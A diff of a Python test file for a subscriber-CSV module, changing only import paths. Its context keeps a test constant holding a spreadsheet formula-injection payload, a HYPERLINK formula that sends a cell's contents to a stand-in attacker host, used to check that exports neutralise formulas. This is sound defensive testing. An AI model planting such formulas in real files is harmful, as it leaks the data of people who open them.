@@ -6,7 +6,7 @@ import json
 
 import pytest
 
-from pain_news.subscribers_csv import neutralise, restore
+from pain_news.subscribers.csv_files import neutralise, restore
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A3,"Open")'
 
@@ -67,7 +67,7 @@ def test_export_and_list_neutralise_formulas_and_the_export_reimports_unchanged(
 
 def _by_the_rules(text, known_topics):
     """What read_rows gives when every line goes through _read_row, the rules one cell at a time."""
-    from pain_news.subscribers_csv import COLUMNS, _read_row, column_key, sniff_delimiter
+    from pain_news.subscribers.csv_files import COLUMNS, _read_row, column_key, sniff_delimiter
 
     reader = csv.reader(io.StringIO(text, newline=""), delimiter=sniff_delimiter(text))
     header = next(reader)
@@ -157,7 +157,7 @@ TRICKY = {
 def test_the_quick_path_reads_every_line_as_the_rules_do(tmp_path):
     import random
 
-    from pain_news.subscribers_csv import read_rows
+    from pain_news.subscribers.csv_files import read_rows
 
     rng = random.Random(11)
     out = io.StringIO()
